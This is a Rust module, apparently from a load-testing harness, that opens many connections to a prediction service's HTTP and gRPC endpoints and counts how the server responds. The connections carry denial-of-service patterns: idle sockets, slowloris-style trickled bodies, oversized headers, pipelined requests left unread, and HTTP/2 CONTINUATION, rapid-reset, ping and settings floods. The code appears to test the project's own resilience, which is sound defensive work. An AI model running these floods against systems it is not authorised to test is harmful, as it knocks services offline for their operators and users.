//! Connections that say nothing, little, or much and never listen.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use crate::attacks::attack_run::{AttackRun, connect_to};
use crate::error::LoadtestError;

type Sent = Result<String, LoadtestError>;

/// Fewer than the endpoint admits: above that a proxy has to help.
const MANY: usize = 1_500;

/// Requests on one connection that come before its first answer is read.
const PIPELINED: usize = 10;

/// How many of these connections the server has closed or answered.
fn count(run: &AttackRun<'_>, streams: &mut [TcpStream]) {
    for stream in streams {
        let mut buffer = [0; 16];
        let quick = stream.set_read_timeout(Some(Duration::from_millis(1)));
        let said = match quick.and_then(|()| stream.read(&mut buffer)) {
            Ok(0) => "closed".to_owned(),
            Ok(read) => String::from_utf8_lossy(&buffer[..read.min(12)]).trim_start_matches("HTTP/1.1 ").to_owned(),
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => "still open".to_owned(),
            Err(_) => "closed".to_owned(),
        };
        run.answers.count(said);
    }
}

/// Nothing is ever sent.
pub(crate) fn silent(run: &AttackRun<'_>) -> Sent {
    let mut streams = run.connect_many(MANY);
    run.wait_until_over();
    count(run, &mut streams);
    Ok(format!("{} silent connections", streams.len()))
}

/// Bodies of a megabyte, a byte at a time.
pub(crate) fn slow_bodies(run: &AttackRun<'_>) -> Sent {
    let mut streams = run.connect_many(500);
    let key = run.mesh.attackers_key();
    let head = format!("POST /v1/predict HTTP/1.1\r\nhost: x\r\nx-api-key: {key}\r\ncontent-length: 1000000\r\n\r\n");
    streams.iter_mut().for_each(|stream| drop(stream.write_all(head.as_bytes())));
    while !run.is_over() {
        streams.iter_mut().for_each(|stream| drop(stream.write_all(b" ")));
        std::thread::sleep(Duration::from_millis(500));
    }
    count(run, &mut streams);
    Ok(format!("{} bodies, 2 bytes a second", streams.len()))
}

/// Whole and partial heads of 120,000 bytes on connections that stay.
pub(crate) fn large_heads(run: &AttackRun<'_>) -> Sent {
    let mut streams = run.connect_many(MANY);
    let head = format!("GET / HTTP/1.1\r\nhost: x\r\nx-a: {}\r\n\r\n", "a".repeat(120_000));
    for (number, stream) in streams.iter_mut().enumerate() {
        let bytes = &head.as_bytes()[..head.len() - 2 * (number % 2)];
        let _ = stream.write_all(bytes);
    }
    run.wait_until_over();
    count(run, &mut streams);
    Ok(format!("{} heads of 120 kB, half of them without an end", streams.len()))
}

/// Requests of many rows one behind the other, whose answers are never read.
pub(crate) fn unread_answers(run: &AttackRun<'_>) -> Sent {
    let mut streams = run.connect_many(run.some(200));
    let key = run.mesh.attackers_key();
    let body = format!("{{\"features\":[{}]}}", vec!["[0,0,0,0,0,0,0,0,0,0]"; 1024].join(","));
    let length = body.len();
    let request =
        format!("POST /v1/predict HTTP/1.1\r\nhost: x\r\nx-api-key: {key}\r\ncontent-length: {length}\r\n\r\n{body}");
    for stream in &streams {
        // what is not taken is not waited for
        let _ = stream.set_write_timeout(Some(Duration::from_millis(20)));
    }
    let mut written = 0;
    for _ in 0..PIPELINED {
        for stream in &mut streams {
            written += usize::from(stream.write_all(request.as_bytes()).is_ok());
        }
    }
    run.wait_until_over();
    count(run, &mut streams);
    Ok(format!("{written} requests of 1,024 rows on {} connections", streams.len()))
}

/// HTTP/2 at the HTTP endpoint, and at the gRPC endpoint.
pub(crate) fn http_frames(run: &AttackRun<'_>) -> Sent {
    frames(run, || run.connect())
}

pub(crate) fn grpc_frames(run: &AttackRun<'_>) -> Sent {
    frames(run, || connect_to(run.mesh.grpc))
}

/// Heads without an end, streams that are opened and reset, pings and settings.
fn frames(run: &AttackRun<'_>, connect: impl Fn() -> std::io::Result<TcpStream> + Sync) -> Sent {
    let sent = run.in_parallel(16, |number| {
        let Ok(mut stream) = connect() else { return run.answers.count("no connection") };
        let mut written = stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        written = written.and_then(|()| stream.write_all(&frame(4, 0, 0, &[])));
        let piece = match number % 4 {
            // a head in endless continuations
            0 => {
                written = written.and_then(|()| stream.write_all(&frame(1, 0, 1, &[0x82])));
                frame(9, 0, 1, &[0; 16_000]).repeat(8)
            }
            // a stream that is reset at once, a hundred times
            1 => (0..100u32)
                .flat_map(|n| [frame(1, 4, 2 * n + 1, &[0x82]), frame(3, 0, 2 * n + 1, &[0; 4])].concat())
                .collect(),
            2 => frame(6, 0, 0, &[0; 8]).repeat(1000),
            _ => frame(4, 0, 0, &[0, 3, 0, 0, 0, 1]).repeat(1000),
        };
        for _ in 0..200 {
            written = written.and_then(|()| stream.write_all(&piece));
        }
        run.answers.count(if written.is_ok() { "all taken" } else { "connection closed" });
    });
    Ok(format!("{sent} connections of hostile frames"))
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
